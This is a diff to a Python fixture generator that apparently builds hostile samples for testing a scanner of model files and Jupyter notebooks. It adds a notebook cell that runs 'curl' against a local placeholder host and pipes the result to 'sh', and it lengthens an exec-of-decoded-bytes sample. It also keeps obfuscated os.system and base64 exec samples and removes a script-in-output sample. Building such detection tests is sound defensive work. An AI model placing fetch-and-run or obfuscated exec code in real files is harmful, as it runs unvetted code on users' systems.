@@ -37,7 +37,11 @@ def _python() -> Made:
             "getattr(__import__('o' + 's'), 'sys' + 'tem')('touch marker')\n",
             "names put together",
         ),
-        ("modeling_x.py", "exec(bytes([111, 112, 101, 110]).decode())\n", "exec of decoded bytes"),
+        (
+            "modeling_x.py",
+            "exec(bytes([111, 112, 101, 110, 40, 39, 109, 39, 44, 39, 119, 39, 41]).decode())\n",
+            "exec of decoded bytes",
+        ),
         (
             "modeling_x.py",
             "import base64\nexec(base64.b64decode('b3BlbignbWFya2VyJywndycp'))\n",
@@ -131,7 +135,7 @@ def _python() -> Made:
         yield name, value.encode(), why
     cell = {
         "cell_type": "code",
-        "source": ["!touch marker\n"],
+        "source": ["!curl -s http://127.0.0.1:9/marker | sh\n"],
         "outputs": [],
         "metadata": {},
         "execution_count": None,
@@ -139,24 +143,13 @@ def _python() -> Made:
     yield (
         "demo.ipynb",
         json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
-        "a notebook that runs a command",
+        "a notebook that runs what it fetches",
     )
     cell = {**cell, "source": ["import os\n", "os.system('touch marker')\n"]}
     yield (
         "demo.ipynb",
         json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
         "a notebook that runs a command by Python",
-    )
-    script = {
-        "output_type": "display_data",
-        "data": {"text/html": ["<script>fetch('http://127.0.0.1:9/marker')</script>"]},
-        "metadata": {},
-    }
-    cell = {**cell, "source": [], "outputs": [script]}
-    yield (
-        "shown.ipynb",
-        json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
-        "a notebook whose output runs in the browser",
     )
 
 
